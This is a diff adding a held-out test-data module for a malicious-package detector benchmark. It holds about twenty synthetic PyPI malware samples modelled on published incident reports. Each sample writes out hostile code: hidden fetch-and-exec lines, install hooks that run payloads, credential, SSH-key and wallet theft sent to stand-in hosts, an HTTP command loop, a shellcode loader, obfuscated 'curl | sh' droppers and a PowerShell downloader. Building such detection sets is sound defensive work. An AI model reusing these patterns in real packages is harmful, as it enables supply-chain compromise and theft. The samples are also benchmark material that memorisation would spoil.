@@ -1,0 +1,257 @@
+"""HELD-OUT recall samples: measured, never tuned on.
+
+Each sample is written here from the public description of a real incident or technique
+(the source is named with each one); no code is copied from the malware or from any other
+tool's test files, payload hosts are documentation IP ranges and example domains, and nothing
+here is live. Detector changes must not be made to make a sample here pass: when one is
+missed, the fix is a behaviour class (with its own tuning cases and unit tests), and the
+miss stays in the published figures until a general fix catches it.
+
+Imported by bench/recall.py (`--set heldout`). Each entry:
+(name, kind, {path: content}, what it does, source, classes it exercises).
+"""
+import base64
+import zlib
+
+B64 = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731
+
+HOOK = (
+    "from setuptools import setup\nfrom setuptools.command.install import install\n"
+    "from setuptools.command.develop import develop\n"
+)
+
+
+def _hidden_line(code):
+    # Statement pushed far past the right edge of an innocent line.
+    return "__version__ = '0.4.6'" + " " * 260 + ";" + code + "\n"
+
+
+SAMPLES = [
+    # Checkmarx, "top.gg" GitHub/PyPI campaign (2024): a fake colorama whose __init__ hides a
+    # fetch-and-run past the visible line with whitespace; the second stage comes from a paste host.
+    ("demo-colour-term", "wheel", {"demo_colour_term/__init__.py":
+        "from .ansi import Fore, Back, Style\n"
+        + _hidden_line("import requests;exec(requests.get('https://paste.example.net/raw/Yk2fQ').text)")
+        + "def init(autoreset=False):\n    return None\n",
+        "demo_colour_term/ansi.py": "class Fore:\n    RED = '\\x1b[31m'\nclass Back:\n    RED = '\\x1b[41m'\nclass Style:\n    RESET_ALL = '\\x1b[0m'\n"},
+     "fetch-and-exec hidden past the visible line in __init__", "Checkmarx, top.gg supply-chain campaign (2024)",
+     ["hidden-code", "download-run", "import-time", "shady-links"]),
+
+    # Phylum, "requests-darwin-lite" (2024): a requests fork whose install command checks the
+    # machine and extracts a binary hidden inside the package's logo image, then runs it.
+    ("demo-req-darwin", "sdist", {
+        "setup.py": HOOK +
+        "import os, subprocess\n\n"
+        "class Cmd(install):\n    def run(self):\n        install.run(self)\n"
+        "        uid = subprocess.check_output(['system_profiler', 'SPHardwareDataType']).decode()\n"
+        "        if 'A1B2C3D4' in uid:\n"
+        "            blob = open('docs/_static/logo.png', 'rb').read()\n"
+        "            payload = blob[blob.index(b'IEND') + 8:]\n"
+        "            open('/tmp/.bin', 'wb').write(payload)\n"
+        "            os.chmod('/tmp/.bin', 0o755)\n            subprocess.Popen(['/tmp/.bin'])\n\n"
+        "setup(name='demo-req-darwin', version='2.28.2', cmdclass={'install': Cmd})\n",
+        "docs/_static/logo.png": "\x89PNG\r\n\x1a\n" + "\x00" * 40 + "IEND\xaeB`\x82" + "\x7fELF\x02\x01\x01" + "\x00" * 32},
+     "install hook extracts a binary appended to an image and runs it", "Phylum, requests-darwin-lite (2024)",
+     ["steganography", "download-run", "non-source-payload"]),
+
+    # Fortinet FortiGuard, "zebo" / "cometlogger" (2024): keylogging and periodic screenshots
+    # with ImageGrab, uploaded to an image host and a webhook, URLs kept hex-encoded.
+    ("demo-zebo", "wheel", {"demo_zebo/__init__.py":
+        "import time, threading, io, requests\nfrom PIL import ImageGrab\n"
+        "_u = bytes.fromhex('" + "https://discord.com/api/webhooks/1180000000000000000/Zm9vYmFyYmF6cXV4".encode().hex() + "').decode()\n"
+        "def _shot():\n    while True:\n        buf = io.BytesIO()\n        ImageGrab.grab().save(buf, 'PNG')\n"
+        "        requests.post(_u, files={'file': ('s.png', buf.getvalue())})\n        time.sleep(600)\n"
+        "threading.Thread(target=_shot, daemon=True).start()\n"},
+     "screenshots sent to a webhook every ten minutes from import", "Fortinet, zebo and cometlogger (2024)",
+     ["screen-capture", "exfiltration", "import-time", "dynamic-access"]),
+
+    # Socket, "fabrice" typosquat of fabric (2024): reads AWS credentials through boto3 and
+    # sends them to a raw IP; on Windows writes a VBScript into AppData and runs it.
+    ("fabrice", "wheel", {"fabrice/__init__.py":
+        "import os, platform, subprocess, urllib.request, json\n"
+        "def _linux():\n    import boto3\n    c = boto3.Session().get_credentials()\n"
+        "    body = json.dumps({'k': c.access_key, 's': c.secret_key, 't': c.token}).encode()\n"
+        "    urllib.request.urlopen('http://198.51.100.23:8080/h', data=body)\n"
+        "def _win():\n    p = os.path.join(os.getenv('APPDATA'), 'p.vbs')\n"
+        "    with open(p, 'wb') as f:\n        f.write(urllib.request.urlopen('http://198.51.100.23/p.vbs').read())\n"
+        "    subprocess.call(['wscript', p])\n"
+        "_win() if platform.system() == 'Windows' else _linux()\n"},
+     "AWS credential theft to a raw IP; VBScript dropper on Windows", "Socket, fabrice (2024)",
+     ["exfiltration", "credential-theft", "download-run", "import-time", "typosquat"]),
+
+    # ReversingLabs, "aiocpa" (2024): an update of a real crypto client added code that sends
+    # the user's tokens to a Telegram bot, wrapped in dozens of base64+zlib layers.
+    ("demo-aiocpa", "wheel", {"demo_aiocpa/utils/sync.py":
+        "import base64 as _b, zlib as _z\n_layer = lambda s: _z.decompress(_b.b64decode(s))\n"
+        "code = b'" + base64.b64encode(zlib.compress(base64.b64encode(zlib.compress(
+            b"import requests,os\nrequests.post('https://api.telegram.org/bot7000000000:AAF-example-token-0000000000000000/sendMessage',"
+            b"data={'chat_id':1,'text':os.environ.get('CRYPTO_PAY_TOKEN')})")))).decode() + "'\n"
+        "for _ in range(2):\n    code = _layer(code)\nexec(code)\n",
+        "demo_aiocpa/__init__.py": "from .utils.sync import *\n"},
+     "layered base64+zlib decode through a loop variable, then exec; token to a Telegram bot", "ReversingLabs, aiocpa (2024)",
+     ["decode-run", "exfiltration", "import-time"]),
+
+    # Dependency-confusion research probes (Birsan 2021 and many copycats): setup.py sends
+    # hostname, user and working directory to an out-of-band collaborator at install.
+    ("demo-internal-sdk", "sdist", {"setup.py":
+        "import socket, getpass, os, urllib.request, urllib.parse\nfrom setuptools import setup\n"
+        "q = urllib.parse.urlencode({'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()})\n"
+        "try:\n    urllib.request.urlopen('https://c7f3k2.oast.fun/?' + q, timeout=3)\nexcept Exception:\n    pass\n"
+        "setup(name='demo-internal-sdk', version='9.9.9')\n"},
+     "install-time beacon of host, user and cwd to an OOB collaborator", "Birsan, dependency confusion (2021) and copycat probes",
+     ["beacon", "exfiltration"]),
+
+    # JFrog, "discordpydebug"-style RAT (Socket 2025): polls a command server and runs
+    # whatever it returns through the shell, starting at import.
+    ("demo-rat-poll", "wheel", {"demo_rat_poll/__init__.py":
+        "import subprocess, time, requests, threading\nC2 = 'http://203.0.113.40:7000'\n"
+        "def _loop():\n    while True:\n        cmd = requests.get(C2 + '/cmd').text\n"
+        "        if cmd:\n            out = subprocess.run(cmd, shell=True, capture_output=True).stdout\n"
+        "            requests.post(C2 + '/out', data=out)\n        time.sleep(5)\n"
+        "threading.Thread(target=_loop, daemon=True).start()\n"},
+     "remote command loop over HTTP started on import", "Socket, discordpydebug (2025)",
+     ["reverse-shell", "import-time", "shady-links"]),
+
+    # ultralytics compromise (Dec 2024): the model downloader was changed to fetch a miner
+    # into a temp path and start it; path built with os.path.join and passed through variables.
+    ("demo-model-dl", "wheel", {"demo_model_dl/downloads.py":
+        "import os, stat, tempfile, subprocess, requests\n"
+        "def safe_download(url, dest=None):\n    r = requests.get(url)\n    open(dest, 'wb').write(r.content)\n    return dest\n"
+        "def _warmup():\n    target = os.path.join(tempfile.gettempdir(), 'ultralytics_runner')\n"
+        "    safe_download('http://198.51.100.77/xmr', target)\n"
+        "    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)\n"
+        "    subprocess.Popen([target, '--donate-level', '1'])\n_warmup()\n",
+        "demo_model_dl/__init__.py": "from . import downloads\n"},
+     "downloads a binary to the temp dir through a helper and runs it on import", "ultralytics PyPI compromise (Dec 2024)",
+     ["download-run", "import-time"]),
+
+    # Checkmarx, "apicolor"/"installpy" (2023): downloads an image and recovers code from
+    # its pixels with an LSB library, then runs it.
+    ("demo-stego-img", "wheel", {"demo_stego_img/__init__.py":
+        "import requests, io\nfrom PIL import Image\nfrom judyb import lsb\n"
+        "img = Image.open(io.BytesIO(requests.get('https://img.example.net/a/4Qx7.png').content))\n"
+        "exec(lsb.reveal(img))\n"},
+     "code recovered from image pixels (LSB) and executed", "Checkmarx, apicolor / installpy (2023)",
+     ["steganography", "decode-run", "import-time"]),
+
+    # Zscaler ThreatLabz, "termncolor"/"colorinal" (2025): the package ships a DLL and loads it
+    # through ctypes, whose export unpacks and starts the next stage (DLL side-loading).
+    ("demo-colorinal", "wheel", {"demo_colorinal/unicode.py":
+        "import ctypes, os\n_here = os.path.dirname(__file__)\n"
+        "def _load():\n    lib = ctypes.CDLL(os.path.join(_here, 'terminate.dll'))\n    lib.envir(b'facade')\n_load()\n",
+        "demo_colorinal/__init__.py": "from .unicode import *\n",
+        "demo_colorinal/terminate.dll": "MZ\x90\x00" + "\x00" * 60 + "PE\x00\x00"},
+     "ships a DLL and calls its export on import", "Zscaler, termncolor / colorinal (2025)",
+     ["native-injection", "import-time"]),
+
+    # Shellcode loader pattern (ctypes VirtualAlloc + RtlMoveMemory + CreateThread) described
+    # in several FortiGuard PyPI reports (2023).
+    ("demo-shellcode", "sdist", {"setup.py": HOOK +
+        "import ctypes, base64\n\n"
+        "class Cmd(install):\n    def run(self):\n"
+        "        buf = base64.b64decode('/EiD5PDowAAAAEFRQVBSUVZIMdJlSItSYA==')\n"
+        "        k = ctypes.windll.kernel32\n"
+        "        k.VirtualAlloc.restype = ctypes.c_uint64\n"
+        "        p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\n"
+        "        k.RtlMoveMemory(ctypes.c_uint64(p), buf, len(buf))\n"
+        "        h = k.CreateThread(0, 0, ctypes.c_uint64(p), 0, 0, 0)\n"
+        "        k.WaitForSingleObject(h, -1)\n        install.run(self)\n\n"
+        "setup(name='demo-shellcode', version='1.0', cmdclass={'install': Cmd})\n"},
+     "shellcode runner (VirtualAlloc, RtlMoveMemory, CreateThread) in an install hook", "FortiGuard Labs PyPI reports (2023)",
+     ["native-injection", "decode-run"]),
+
+    # ReversingLabs, "fshec2" (2023): the payload lives in a compiled .pyc loaded by path, so
+    # source scanners see only a loader.
+    ("demo-fshec", "wheel", {"demo_fshec/__init__.py":
+        "import importlib._bootstrap_external as _be, os\n"
+        "_p = os.path.join(os.path.dirname(__file__), 'full.pyc')\n"
+        "_m = _be.SourcelessFileLoader('full', _p).load_module()\n_m.main()\n",
+        "demo_fshec/full.pyc": "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"},
+     "payload kept in a member named .pyc that is really a script, loaded by path", "ReversingLabs, fshec2 (2023)",
+     ["non-source-payload", "import-time"]),
+
+    # Checkmarx, entry-point hijacking (2024): a package registers console scripts named after
+    # common commands so that running them runs the package's code.
+    ("demo-cmd-shadow", "wheel", {
+        "demo_cmd_shadow/cli.py": "import os, sys, urllib.request\n"
+        "def main():\n    urllib.request.urlopen('http://203.0.113.12/r?a=' + ' '.join(sys.argv))\n"
+        "    os.execvp('/bin/ls', ['ls'] + sys.argv[1:])\n",
+        "demo_cmd_shadow-1.0.dist-info/entry_points.txt": "[console_scripts]\nls = demo_cmd_shadow.cli:main\npip = demo_cmd_shadow.cli:main\n"},
+     "console scripts that shadow ls and pip and report each call", "Checkmarx, entry-point hijacking (2024)",
+     ["install-anomaly", "beacon"]),
+
+    # Clipboard hijackers (Phylum and Checkmarx write-ups, 2022-2023): watch the clipboard and
+    # swap wallet addresses for the attacker's.
+    ("demo-clip-swap", "wheel", {"demo_clip_swap/__init__.py":
+        "import re, threading, time, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
+        "def _watch():\n    while True:\n        v = pyperclip.paste()\n"
+        "        if BTC.match(v):\n            pyperclip.copy('bc1qexampleexampleexampleexample0000')\n        time.sleep(1)\n"
+        "threading.Thread(target=_watch, daemon=True).start()\n"},
+     "clipboard watcher replacing wallet addresses, from import", "clipboard-hijacker write-ups (Phylum, Checkmarx 2022-2023)",
+     ["screen-capture", "import-time"]),
+
+    # Obfuscated getattr/chr droppers (Sonatype and Phylum write-ups): the sink name is built
+    # from chr() codes so no "system" string appears.
+    ("demo-chr-getattr", "sdist", {"setup.py":
+        "from setuptools import setup\n"
+        "_o = __import__(''.join(map(chr, [111, 115])))\n"
+        "getattr(_o, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('curl -s http://203.0.113.5/i | sh')\n"
+        "setup(name='demo-chr-getattr', version='1.0')\n"},
+     "os.system reached through __import__ and getattr with chr()-built names", "obfuscated droppers (Sonatype, Phylum)",
+     ["dynamic-access", "download-run"]),
+
+    # Octal-escaped eval (a trick in Check Point and Checkmarx write-ups): eval spelt in escapes.
+    ("demo-octal-eval", "wheel", {"demo_octal_eval/__init__.py":
+        "import builtins\n_f = getattr(builtins, '\\145\\166\\141\\154')\n"
+        "_f(__import__('base64').b64decode('" + B64("__import__('os').system('id > /tmp/.x')") + "'))\n"},
+     "eval spelt in octal escapes, base64 payload", "escape-encoded obfuscation write-ups (Check Point 2023)",
+     ["dynamic-access", "decode-run", "import-time"]),
+
+    # Same obfuscated setup.py under a neutral name: the issue's "identical code blocked under one
+    # name and served under another" family (whitespace-hidden, reversed base64, exec).
+    ("demo-neutral-name", "sdist", {"setup.py":
+        "from setuptools import setup\n"
+        + _hidden_line("exec(__import__('base64').b64decode('" + B64("import os;os.system('curl http://203.0.113.61/s|sh')")[::-1] + "'[::-1]))")
+        + "setup(name='demo-neutral-name', version='0.1')\n"},
+     "hidden reversed-base64 exec in setup.py under a name that imitates nothing", "heavily obfuscated setup.py family (issue 10)",
+     ["hidden-code", "decode-run"]),
+
+    # PowerShell dropper inside a command string at import (W4SP/BlazeStealer write-ups):
+    # DownloadFile into TEMP, then Start-Process.
+    ("demo-ps-drop", "wheel", {"demo_ps_drop/__init__.py":
+        "import subprocess\n"
+        "subprocess.Popen('powershell.exe -WindowStyle Hidden -Command \"(New-Object System.Net.WebClient)"
+        ".DownloadFile(\\'https://files.example.net/upd.exe\\', $env:TEMP+\\'\\\\upd.exe\\'); Start-Process $env:TEMP\\\\upd.exe\"', shell=True)\n"},
+     "hidden PowerShell DownloadFile to TEMP + Start-Process on import", "Checkmarx, BlazeStealer (2023)",
+     ["download-run", "shady-links", "import-time"]),
+
+    # SSH key and shell history theft sent by SMTP (several 2023 stealer write-ups use smtplib).
+    ("demo-smtp-steal", "wheel", {"demo_smtp_steal/__init__.py":
+        "import os, smtplib\nfrom email.message import EmailMessage\n"
+        "def _go():\n    m = EmailMessage()\n    m['Subject'] = os.uname().nodename\n"
+        "    m.set_content(open(os.path.expanduser('~/.ssh/id_rsa')).read() + open(os.path.expanduser('~/.bash_history')).read())\n"
+        "    with smtplib.SMTP('203.0.113.25', 587) as s:\n        s.login('u', 'p')\n        s.send_message(m)\n_go()\n"},
+     "SSH key and shell history mailed out on import", "smtplib stealer write-ups (2023)",
+     ["credential-theft", "exfiltration", "import-time"]),
+
+    # pyproject backend-path: the build backend is in-tree code that runs when pip asks for
+    # metadata (technique discussed in PEP 517 security notes and red-team write-ups).
+    ("demo-intree-backend", "sdist", {
+        "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
+        "_build/backend.py": "import os, urllib.request\n"
+        "exec(urllib.request.urlopen('http://203.0.113.33/b').read())\n"
+        "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
+        "def build_wheel(wd, config_settings=None, metadata_directory=None):\n    raise SystemExit(1)\n"},
+     "in-tree build backend fetches and runs code when pip builds metadata", "PEP 517 backend-path technique",
+     ["install-anomaly", "download-run"]),
+
+    # Socket, "solana-token"/wallet stealers (2024-2025): reads wallet key files and posts them to
+    # a free-hosting endpoint.
+    ("demo-sol-keys", "wheel", {"demo_sol_keys/__init__.py":
+        "import os, glob, json, urllib.request\n"
+        "def _k():\n    out = {}\n    for p in glob.glob(os.path.expanduser('~/.config/solana/*.json')):\n        out[p] = open(p).read()\n"
+        "    req = urllib.request.Request('https://demo-sol-keys.glitch.me/k', data=json.dumps(out).encode())\n"
+        "    urllib.request.urlopen(req)\n_k()\n"},
+     "Solana wallet keypairs posted to a free-hosting app on import", "Socket, solana wallet stealers (2024-2025)",
+     ["credential-theft", "exfiltration", "import-time"]),
+]
